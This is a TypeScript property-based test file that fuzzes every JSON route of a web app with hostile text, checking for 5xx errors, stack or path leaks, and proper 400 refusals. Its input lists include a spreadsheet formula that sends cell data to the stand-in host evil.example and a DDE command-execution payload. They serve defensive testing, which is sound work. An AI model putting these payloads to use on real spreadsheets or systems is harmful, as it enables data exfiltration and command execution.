import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DeclaredRoute } from '../../src/api/access';
import type { onboardedUser } from '../helpers/client';
import { fieldsOf, minimalValid } from '../helpers/minimal-valid';
import { type RouteCallers, routeCallers } from '../helpers/route-callers';
import { startTestApp, type TestApp } from '../helpers/test-app';

// Issue 32: hostile text over the whole route table (enumerated from the registry, never a hand list). Each JSON
// route gets a body its contract accepts, with one field (body, query or path) replaced by a hostile string: NUL,
// other control characters, bidi overrides, lone surrogates, a 1 MB string, spreadsheet formulas. No answer may be a
// 5xx or carry a stack or a file path; control characters and broken text must be refused with a 400 naming the field.

let app: TestApp;
let callers: RouteCallers;
type User = Awaited<ReturnType<typeof onboardedUser>>;
const users: Record<string, User> = {};

beforeAll(async () => {
  app = await startTestApp();
  callers = await routeCallers(app, 'Hostile');
  Object.assign(users, callers.users);
  await app.db.updateTable('profiles').set({ plan: 'scale' }).execute();
}, 60_000);
afterAll(() => app?.close());

/** Must be refused with a 400 that names the field. */
const REFUSED = ['a\u0000b', 'bell\u0007', 'esc \u001b[2J', 'c1 \u0085', 'half \ud83d', '\udc00 low'];
/** May be stored (cleaned or as text), never a 5xx. */
const ALLOWED = [
  '\u202eexe.live',
  'fine \u2066isolate\u2069',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  'x'.repeat(1_000_000),
];
const hostile = fc.oneof(
  fc.constantFrom(...REFUSED, ...ALLOWED),
  // A control character somewhere inside ordinary text.
  fc
    .tuple(fc.string({ maxLength: 12 }), fc.integer({ min: 0, max: 0x1f }), fc.string({ maxLength: 12 }))
    .filter(([, c]) => c !== 9 && c !== 10 && c !== 13)
    .map(([a, c, b]) => `${a}${String.fromCharCode(c)}${b}`),
);

/** Routes that start lasting work (analyses, crawls): they get the hostile field without a valid rest. */
const STARTS_WORK = /\/(analyze|functions\/|rerun|import-openvc|apply)/;
const UUID = '00000000-0000-4000-8000-000000000000';

/** The route's path with each parameter filled (the founder's idea where one is meant), or one made hostile. */
function pathOf(route: DeclaredRoute, hostileParam?: { name: string; value: string }): string {
  const filled = route.path.replace(/:(\w+)/g, (_, name: string) => {
    if (hostileParam?.name === name) return encodeRaw(hostileParam.value);
    if (name === 'id' && route.path.startsWith('/ideas/') && route.method !== 'DELETE')
      return users.founder!.ideaId!;
    return UUID;
  });
  return `/api${filled}`;
}

interface Outcome {
  status: number;
  text: string;
}

async function send(
  route: DeclaredRoute,
  path: string,
  query: Record<string, unknown>,
  body: unknown,
): Promise<Outcome> {
  const { headers } = callers.callerFor(route);
  const pairs = Object.entries(query).map(
    ([k, v]) => `${encodeRaw(k)}=${encodeRaw(typeof v === 'string' ? v : JSON.stringify(v))}`,
  );
  const url = `${app.url}${path}${pairs.length ? `?${pairs.join('&')}` : ''}`;
  const hasBody = route.method !== 'GET' && route.method !== 'DELETE';
  const res = await fetch(url, {
    method: route.method,
    headers: hasBody ? { ...headers, 'content-type': 'application/json' } : headers,
    body: hasBody ? JSON.stringify(body ?? {}) : undefined,
    redirect: 'manual',
  });
  if (res.headers.get('content-type')?.startsWith('text/event-stream')) {
    await res.body?.cancel();
    return { status: res.status, text: '' };
  }
  return { status: res.status, text: await res.text() };
}

/**
 * Percent-encodes text as a client would, except that a lone surrogate goes out as its three raw bytes (what a
 * careless client sends) instead of making encodeURIComponent throw.
 */
function encodeRaw(text: string): string {
  let out = '';
  for (const ch of text) {
    const c = ch.charCodeAt(0);
    if (ch.length === 1 && c >= 0xd800 && c <= 0xdfff)
      out += [0xe0 | (c >> 12), 0x80 | ((c >> 6) & 0x3f), 0x80 | (c & 0x3f)]
        .map((b) => `%${b.toString(16).toUpperCase()}`)
        .join('');
    else out += encodeURIComponent(ch);
  }
  return out;
}

/** What the input layer refuses: control characters (line breaks and tabs too outside a body), lone surrogates. */
function hasForbidden(text: string, lineBreaksToo: boolean): boolean {
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c === 9 || c === 10 || c === 13) {
      if (lineBreaksToo) return true;
    } else if (c < 0x20 || (c >= 0x7f && c <= 0x9f)) return true;
    if (c >= 0xd800 && c <= 0xdbff) {
      const next = text.charCodeAt(i + 1);
      if (next >= 0xdc00 && next <= 0xdfff) i++;
      else return true;
    } else if (c >= 0xdc00 && c <= 0xdfff) return true;
  }
  return false;
}

const LEAK = /\bat .*\.(ts|js):\d+|"stack"|\/work\/|node_modules|invalid byte sequence|SQLSTATE|relation "/;

describe('hostile text over every JSON route of the route table', () => {
  it('never answers 5xx, never leaks a stack or a path, and refuses control characters naming the field', async () => {
    const targets = app.routes.filter(
      (r) => r.schemas?.body || r.schemas?.query || r.schemas?.params || /:\w+/.test(r.path),
    );
    expect(targets.length).toBeGreaterThan(50);
    const problems: string[] = [];
    let runs = 0;
    for (const route of targets) {
      const bodyFields =
        route.method === 'GET' || route.method === 'DELETE' ? [] : fieldsOf(route.schemas?.body);
      const queryFields = fieldsOf(route.schemas?.query);
      const paramFields = [...route.path.matchAll(/:(\w+)/g)].map((m) => m[1]!);
      const aims = [
        ...bodyFields.map((f) => ({ part: 'body' as const, f })),
        ...queryFields.map((f) => ({ part: 'query' as const, f })),
        ...paramFields.map((f) => ({ part: 'params' as const, f })),
      ];
      if (!aims.length) continue;
      const works = STARTS_WORK.test(route.path) && route.method !== 'GET';
      const baseBody = route.schemas?.body && !works ? (minimalValid(route.schemas.body) as object) : {};
      const baseQuery = route.schemas?.query ? (minimalValid(route.schemas.query) as object) : {};
      await fc.assert(
        fc.asyncProperty(fc.constantFrom(...aims), hostile, async (aim, text) => {
          runs++;
          const body = { ...(baseBody ?? {}) } as Record<string, unknown>;
          const query = { ...(baseQuery ?? {}) } as Record<string, unknown>;
          if (aim.part === 'body') body[aim.f] = text;
          if (aim.part === 'query') query[aim.f] = text;
          // A path or query string of a megabyte is refused by Node before any route (431/414): kept to 10 KB.
          const pathText = aim.part === 'params' ? text.slice(0, 10_000) : text;
          if (aim.part === 'query') query[aim.f] = pathText.slice(0, 10_000);
          const path = pathOf(route, aim.part === 'params' ? { name: aim.f, value: pathText } : undefined);
          const out = await send(route, path, query, works && aim.part === 'body' ? { [aim.f]: text } : body);
          const where = `${route.method} ${route.path} ${aim.part}.${aim.f}=${JSON.stringify(text.slice(0, 40))}`;
          if (out.status >= 500 || LEAK.test(out.text))
            problems.push(`${where} → ${out.status} ${out.text.slice(0, 200)}`);
          // In a URL a lone surrogate can only travel as bytes that are not UTF-8: the query parser reads them as
          // U+FFFD (nothing broken reaches a route) and a path that cannot be decoded is refused whole.
          const mustRefuse = hasForbidden(
            aim.part === 'query' ? text.replace(/[\uD800-\uDFFF]/gu, '\uFFFD') : text,
            aim.part !== 'body',
          );
          const named =
            out.text.includes(`"field":"${aim.f}"`) ||
            (aim.part === 'params' && out.text.includes('not valid percent-encoded UTF-8'));
          // A route that refuses first (access, size, an unknown id) may answer otherwise; a 2xx let the character in.
          if (mustRefuse && out.status < 300) problems.push(`${where} → ${out.status}: accepted`);
          if (mustRefuse && out.status === 400 && !named)
            problems.push(`${where} → 400 without naming the field: ${out.text.slice(0, 200)}`);
        }),
        { numRuns: Math.min(30, aims.length * 8), seed: 32 },
      );
    }
    console.log(`hostile input: ${runs} requests over ${targets.length} routes`);
    expect(problems).toEqual([]);
  }, 600_000);

  it('answers the issue cases: NUL in the contact form and waitlist is a 400 naming the field', async () => {
    for (const path of ['/api/contact', '/api/waitlist']) {
      const res = await fetch(app.url + path, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({
          name: 'a\u0000b',
          email: 'nul@example.com',
          message: 'Hello there, a message.',
        }),
      });
      expect(res.status, path).toBe(400);
      expect((await res.json()).error).toMatchObject({
        code: 'bad_request',
        field: 'name',
        message: 'name must not contain a NUL character (U+0000)',
      });
    }
  });

  it('stores a title with a right-to-left override without the override', async () => {
    const res = await users.founder!.client.post('/api/ideas', {
      title: '\u202eexe.live',
      description: 'Bidi test idea',
    });
    expect(res.status).toBe(201);
    expect(res.body.title).toBe('exe.live');
  });
});
